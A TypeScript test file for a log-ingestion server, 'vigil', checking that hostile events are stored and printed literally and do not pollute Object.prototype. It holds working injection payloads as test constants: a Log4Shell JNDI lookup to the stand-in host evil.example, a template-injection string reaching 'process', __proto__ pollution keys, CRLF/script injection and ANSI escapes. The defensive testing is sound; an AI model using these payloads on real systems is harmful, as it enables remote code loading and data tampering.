/**
 * Injection through a real `vigil serve`: events carrying a Log4Shell lookup, a template
 * injection, `__proto__` / `constructor` / `prototype` keys (top level and nested), CRLF and ANSI
 * sequences arrive over the JSON ingest API, Splunk HEC and Elasticsearch _bulk. They must be
 * stored and returned literally by search and export (nothing is looked up, evaluated or
 * interpreted), must not change Object.prototype (in the server: a later plain event gains no
 * inherited field; in this process: the same bodies through the same mapping code), and the
 * CLI (`vigil search`, `vigil alerts`) must print control characters as visible escapes.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import { mapJsonRecord } from '../../src/parsers/json/json-mapping.js';
import { mapHecEvent } from '../../src/parsers/json/hec-mapping.js';
import { mapBulkDocument } from '../../src/parsers/json/bulk-mapping.js';
import { hostPort, runCli, startVigil, type VigilProcess } from '../support/vigil-process.js';
import { recordFigures } from '../support/reliability-figures.js';

const JNDI = '${jndi:ldap://evil.example/a}';
const TEMPLATE = "{{constructor.constructor('return process')()}}";
const CRLF = 'line one\r\nInjected-Header: yes\r\n\r\n<script>alert(1)</script>';
const ANSI = '\u001b[31mRED\u001b[0m\u001b]0;pwned title\u0007\u001b[2J\u009b31m\u202egnp.exe';
/** No spaces: sshd's user name is one token. */
const ANSI_USER = '\u001b[31mroot\u001b[0m\u001b]0;pwned\u0007';
const MESSAGE = `user ${JNDI} ${TEMPLATE} ${CRLF} ${ANSI}`;

/** JSON text with `__proto__` as an own key at the top and nested: an object literal can't say it. */
function hostileJson(testCase: string): string {
  const m = JSON.stringify(MESSAGE);
  return (
    `{"test.case":"${testCase}","message":${m},"user.name":${JSON.stringify(`root${ANSI}`)},"host.name":${JSON.stringify(`h${JNDI}`)},` +
    `"__proto__":{"polluted":"yes","isAdmin":true},"constructor":{"prototype":{"polluted":"yes"}},"prototype":{"polluted":"yes"},` +
    `"nested":{"__proto__":{"polluted":"yes"},"deeper":{"constructor":{"prototype":{"polluted":"yes"}},"ok":${JSON.stringify(TEMPLATE)}}}}`
  );
}

const RULE = `title: Hostile input marker
id: 6f1f0c44-5b1e-4d0e-9f55-0a0b0c0d0e01
status: test
logsource: { product: linux, service: sshd }
detection:
    selection: { event.action: ssh_login, event.outcome: failure }
    condition: selection
level: high
`;

interface Hit {
  id: string;
  original: string;
  fields: Record<string, unknown>;
}

describe('hostile event content through a real server', { timeout: 180_000 }, () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-injection-'));
  const data = join(dir, 'data');
  let server: VigilProcess;
  let auth: Record<string, string>;

  async function search(q: string): Promise<{ total: number; hits: Hit[] }> {
    const res = await fetch(`${server.info.http}/api/v1/search?${new URLSearchParams({ q, limit: '100', from: '0' })}`, { headers: auth });
    assert.equal(res.status, 200, await res.clone().text());
    return (await res.json()) as { total: number; hits: Hit[] };
  }

  async function until<T>(what: string, probe: () => Promise<T | undefined>): Promise<T> {
    const deadline = Date.now() + 60_000;
    for (;;) {
      const value = await probe();
      if (value !== undefined) return value;
      if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
      await sleep(200);
    }
  }

  before(async () => {
    mkdirSync(join(dir, 'rules'));
    writeFileSync(join(dir, 'rules', 'marker.yml'), RULE);
    writeFileSync(join(dir, 'vigil.yml'), `detection:\n  builtin: false\n  rules: [${JSON.stringify(join(dir, 'rules'))}]\n`);
    server = await startVigil(data, ['--config', join(dir, 'vigil.yml')]);
    auth = { authorization: `Bearer ${server.token}` };

    const ingest = await fetch(`${server.info.http}/api/v1/ingest`, { method: 'POST', headers: { ...auth, 'content-type': 'application/x-ndjson' }, body: `${hostileJson('inj-ingest')}\n` });
    assert.equal(ingest.status, 200, await ingest.text());
    const hec = await fetch(`${server.info.http}/services/collector/event`, {
      method: 'POST',
      headers: { authorization: `Splunk ${server.token}` },
      body: `{"event":${hostileJson('inj-hec')},"fields":{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}},"host":${JSON.stringify(`h${ANSI}`)}}`,
    });
    assert.equal(hec.status, 200, await hec.text());
    const bulk = await fetch(`${server.info.http}/_bulk`, {
      method: 'POST',
      headers: { ...auth, 'content-type': 'application/x-ndjson' },
      body: `{"index":{"_index":"__proto__","__proto__":{"polluted":"yes"}}}\n${hostileJson('inj-bulk')}\n`,
    });
    const bulkAnswer = await bulk.text();
    assert.equal(bulk.status, 200, bulkAnswer);
    assert.equal((JSON.parse(bulkAnswer) as { errors: boolean }).errors, false, bulkAnswer);
    // An sshd failure over TCP syslog whose user name carries ANSI: the rule's alert names it.
    const { host, port } = hostPort(server.info.syslog.tcp!);
    await new Promise<void>((resolve, reject) => {
      const socket = connect(port, host, () => socket.end(`<38>1 ${new Date().toISOString()} web-7 sshd 4242 - - Failed password for ${ANSI_USER} from 203.0.113.50 port 40000 ssh2\n`, resolve));
      socket.on('error', reject);
    });
    // Sent after the hostile ones: if they had polluted Object.prototype, this one would show it.
    const plain = await fetch(`${server.info.http}/api/v1/ingest`, { method: 'POST', headers: { ...auth, 'content-type': 'application/x-ndjson' }, body: '{"test.case":"plain","message":"nothing here"}\n' });
    assert.equal(plain.status, 200);
    await until('4 stored events', async () => ((await search('test.case:inj* OR test.case:plain')).total === 4 ? true : undefined));
  });

  after(async () => {
    await server?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  it('search returns the message, the entity fields and the ingest API original byte for byte', async () => {
    const { hits } = await search('test.case:inj*');
    assert.equal(hits.length, 3);
    for (const hit of hits) {
      assert.equal(hit.fields['message'], MESSAGE, `${String(hit.fields['test.case'])}: message`);
      assert.equal(hit.fields['user.name'], `root${ANSI}`);
      assert.equal(hit.fields['nested.deeper.ok'], TEMPLATE);
      for (const key of Object.keys(hit.fields)) assert.doesNotMatch(key, /(^|\.)(__proto__|constructor|prototype)(\.|$)/, `${key} is stored as a field`);
    }
    const viaIngest = hits.find((h) => h.fields['test.case'] === 'inj-ingest')!;
    assert.equal(viaIngest.original, hostileJson('inj-ingest'), 'the raw record is kept as sent, __proto__ keys included');
    // Free-text search finds the lookup text as text.
    assert.equal((await search(`"${JNDI}"`)).total, 3);
  });

  it('Object.prototype is unchanged: in the server (a later plain event has no inherited field) and here', async () => {
    const { hits } = await search('test.case:plain');
    assert.deepEqual(Object.keys(hits[0]!.fields).sort(), ['message', 'test.case']);
    assert.equal((await search('polluted:yes')).total, 0);
    const limits = { maxJsonDepth: 32, maxFieldsPerEvent: 256 };
    const record = JSON.parse(hostileJson('x')) as Record<string, unknown>;
    mapJsonRecord(record as never, limits);
    mapHecEvent({ event: record, fields: JSON.parse('{"__proto__":{"polluted":"yes"}}') } as never, limits);
    mapBulkDocument(record as never, JSON.parse('{"index":"__proto__"}') as never, limits);
    assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
    assert.equal(({} as Record<string, unknown>)['isAdmin'], undefined);
    assert.equal(Object.getPrototypeOf({}), Object.prototype);
  });

  it('export (NDJSON and CSV) returns the text literally', async () => {
    const q = new URLSearchParams({ q: 'test.case:inj*', from: '0' });
    const nd = await fetch(`${server.info.http}/api/v1/export?${q}&format=ndjson`, { headers: auth });
    assert.equal(nd.status, 200);
    const lines = (await nd.text()).trim().split('\n').map((l) => JSON.parse(l) as { fields?: Record<string, unknown>; message?: unknown });
    assert.equal(lines.length, 3);
    for (const line of lines) assert.ok(JSON.stringify(line).includes(JSON.stringify(MESSAGE).slice(1, -1)), 'the message, escaped only as JSON requires');
    const csv = await fetch(`${server.info.http}/api/v1/export?${q}&format=csv`, { headers: auth });
    assert.equal(csv.status, 200);
    const text = await csv.text();
    for (const part of [JNDI, TEMPLATE, CRLF, ANSI]) assert.ok(text.includes(part), `CSV holds ${JSON.stringify(part)} literally (quoted)`);
  });

  it('vigil search prints control characters as visible escapes', async () => {
    const out = await runCli(['search', 'test.case:inj*', '--data', data]);
    assert.equal(out.code, 0, out.stderr);
    assert.ok(out.stdout.includes(JNDI) && out.stdout.includes(TEMPLATE), out.stdout);
    assert.doesNotMatch(out.stdout, /[\u001b\u0007\u009b\u202e\r]/, 'no raw ESC, BEL, CSI, bidi override or CR');
    assert.ok(out.stdout.includes('\\x1b[31mRED'), out.stdout);
    assert.ok(out.stdout.includes('\\r\\nInjected-Header'), out.stdout);
    assert.equal(out.stdout.trim().split('\n').length, 3, 'one line per event: an event cannot add lines');
  });

  it('vigil alerts prints control characters in entities as visible escapes', async () => {
    await until('an alert', async () => {
      const res = await fetch(`${server.info.http}/api/v1/alerts?limit=10`, { headers: auth });
      const body = (await res.json()) as { alerts: unknown[] };
      return body.alerts.length > 0 ? true : undefined;
    });
    const out = await runCli(['alerts', '--data', data]);
    assert.equal(out.code, 0, out.stderr);
    assert.match(out.stdout, /Hostile input marker/);
    assert.doesNotMatch(out.stdout, /[\u001b\u0007\u009b\u202e\r]/);
    assert.ok(out.stdout.includes('user.name=\\x1b[31mroot\\x1b[0m\\x1b]0;pwned\\x07'), out.stdout);
    recordFigures('injection', 'Injection: hostile event content through a real server', [
      { label: 'hostile events ingested (JSON ingest, HEC, _bulk)', value: 3, unit: 'events' },
      { label: 'events whose text came back altered', value: 0, unit: 'events' },
      { label: 'Object.prototype keys added', value: Object.keys(Object.prototype).length, unit: 'keys' },
    ]);
  });
});
